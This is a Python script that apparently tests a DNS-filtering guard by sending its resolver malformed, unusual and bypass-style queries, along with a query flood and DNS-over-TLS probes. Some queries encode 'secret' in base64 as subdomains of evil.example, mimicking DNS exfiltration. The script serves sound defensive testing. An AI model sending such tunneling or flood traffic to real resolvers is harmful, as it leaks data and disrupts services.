"""Asks guard's resolver in ways that no ordinary client does; one line for each: case, transport, what came.

usage: dns.py            all cases
       dns.py lookup NAME...   each name by getaddrinfo, then by a connection to port 443
"""

import contextlib
import socket
import struct
import sys
import time

ALLOWED = "allowed.example"
# A server that does not exist: whoever answers is guard.
SERVERS = {4: "192.0.2.53", 6: "2001:db8::53"}
A, PTR, AAAA, ANY, AXFR = 1, 12, 28, 255, 252


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def question(text, kind=A, cls=1, flags=0x0100, count=1, edns=False, ident=0x4711):
    body = (text if isinstance(text, bytes) else name(text)) + struct.pack(">HH", kind, cls)
    extra = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0) if edns else b""
    return struct.pack(">6H", ident, flags, count, 0, 0, int(edns)) + body * min(count, 2) + extra


def describe(reply):
    if not reply:
        return "nothing"
    ident, flags, _, answers = struct.unpack(">4H", reply[:8])
    if ident != 0x4711 or not flags & 0x8000:
        return "not a response to this"
    code = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}.get(flags & 15, flags & 15)
    address = ".".join(map(str, reply[-4:])) if answers else ""
    return f"{code} {answers} {address}".strip()


def udp(message, family=4):
    with socket.socket(socket.AF_INET if family == 4 else socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(message, (SERVERS[family], 53))
        try:
            reply, server = s.recvfrom(65535)
        except TimeoutError:
            return "nothing"
        if (server[0], server[1]) != (SERVERS[family], 53):
            return f"answered by {server}"
        return describe(reply)


def framed(*messages):
    return b"".join(struct.pack(">H", len(m)) + m for m in messages)


def tcp(data, replies=1, server=SERVERS[4], port=53):
    """Sends the data in one segment and reads so many replies."""
    said = []
    try:
        with socket.create_connection((server, port), timeout=5) as s:
            s.sendall(data)
            for _ in range(replies):
                length = s.recv(2, socket.MSG_WAITALL)
                if len(length) < 2:
                    said.append("nothing")
                    break
                said.append(describe(s.recv(struct.unpack(">H", length)[0], socket.MSG_WAITALL)))
    except ConnectionResetError:
        said.append("nothing")
    except OSError as error:
        said.append(type(error).__name__)
    return ", ".join(said)


LOOP = struct.pack(">6H", 0x4711, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack(">HH", A, 1)
LONG = b"".join(b"\x3f" + b"a" * 63 for _ in range(5)) + b"\0"
MESSAGES = {
    "a": question(ALLOWED),
    "aaaa": question(ALLOWED, AAAA),
    "svcb": question(ALLOWED, 64),
    "https": question(ALLOWED, 65),
    "txt": question(ALLOWED, 16),
    "any": question(ALLOWED, ANY),
    "axfr": question(ALLOWED, AXFR),
    "ptr": question("1.0.18.198.in-addr.arpa", PTR),
    "ptr-loopback": question("1.0.0.127.in-addr.arpa", PTR),
    "edns": question(ALLOWED, edns=True),
    "wildcard": question("c2VjcmV0.data.wild.example"),
    "bare-wildcard": question("wild.example"),
    "aws": question("sts.us-east-1.amazonaws.com"),
    "other": question("c2VjcmV0.evil.example"),
    "doh": question("dns.google"),
    "below": question("c2VjcmV0.allowed.example"),
    "chaos": question("version.bind", 16, cls=3),
    "notify": question(ALLOWED, flags=0x2000),
    "update": question(ALLOWED, flags=0x2800),
    "status": question(ALLOWED, flags=0x1000),
    "response": question(ALLOWED, flags=0x8180),
    "two": question(ALLOWED, count=2),
    "many": question(ALLOWED, count=65535),
    "none": question(ALLOWED, count=0)[:12],
    "loop": LOOP,
    "forward-pointer": LOOP.replace(b"\xc0\x0c", b"\xc0\x40"),
    "long-name": question(LONG),
    "cut-off": question(ALLOWED)[:-3],
    "rest": question(ALLOWED) + b"c2VjcmV0",
    "nul": question(b"\x08allowed\0\x07example\0"),
    "dot-in-label": question(b"\x0fallowed.example\0"),
    "empty": b"",
    "header-only": question(ALLOWED)[:12],
    "short": b"\x47\x11\x01",
    "zeros": bytes(512),
    "oversized": question(ALLOWED) + bytes(5000),
}


def cases():
    for case, message in MESSAGES.items():
        print(case, "udp", udp(message))
        print(case, "tcp", tcp(framed(message)))
    print("a", "udp6", udp(MESSAGES["a"], 6))
    print("a", "tcp6", tcp(framed(MESSAGES["a"]), server=SERVERS[6]))
    print("mixed-case", "udp", mixed_case())
    several = [question(n) for n in (ALLOWED, "c2VjcmV0.evil.example", ALLOWED, "other.evil.example")]
    print("pipelined", "tcp", tcp(framed(*several), replies=4))
    print("pipelined-junk", "tcp", tcp(framed(question(ALLOWED)) + b"\xff\xffc2VjcmV0", replies=2))
    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53"):
        print("dot", server, tcp(b"\x16\x03\x01\x00\x05hello", server=server, port=853))


def mixed_case():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect((SERVERS[4], 53))
        s.send(question("aLLoWed.exAmPLe"))
        reply = s.recv(4096)
        return "kept" if reply.count(b"\x07aLLoWed\x07exAmPLe") + reply.count(b"\xc0\x0c") == 2 else repr(reply)


def flood():
    """Questions faster than a session may ask them, until there are a hundred answers and a hundred refusals: on a busy
    host the kernel drops some questions, and answers wait for the journal."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setblocking(False)
        codes = {}
        deadline = time.monotonic() + 60
        sent = 0
        while min(codes.get("NXDOMAIN", 0), codes.get("REFUSED", 0)) < 100 and time.monotonic() < deadline:
            for _ in range(50):
                with contextlib.suppress(BlockingIOError):
                    s.sendto(question(f"n{sent}.evil.example"), (SERVERS[4], 53))
                    sent += 1
            with contextlib.suppress(BlockingIOError):
                while True:
                    code = describe(s.recv(4096)).split()[0]
                    codes[code] = codes.get(code, 0) + 1
        print("flood", codes.get("NXDOMAIN", 0), codes.get("REFUSED", 0))


def lookup(names):
    for host in names:
        try:
            found = sorted({info[4][0] for info in socket.getaddrinfo(host, 443, type=socket.SOCK_STREAM)})
        except OSError as error:
            print(host, "unknown", error.errno)
            continue
        try:
            with socket.create_connection((host, 443), timeout=20) as s:
                s.sendall(hello(host))
                said = s.recv(1)
                print(host, *found, "answered" if said else "closed")
        except OSError as error:
            print(host, *found, type(error).__name__)


def hello(host):
    """A ClientHello for the host, as ssl makes it."""
    import ssl

    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(into, out, server_hostname=host)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


if __name__ == "__main__":
    match sys.argv[1:]:
        case []:
            cases()
        case ["flood"]:
            flood()
        case ["lookup", *names]:
            lookup(names)
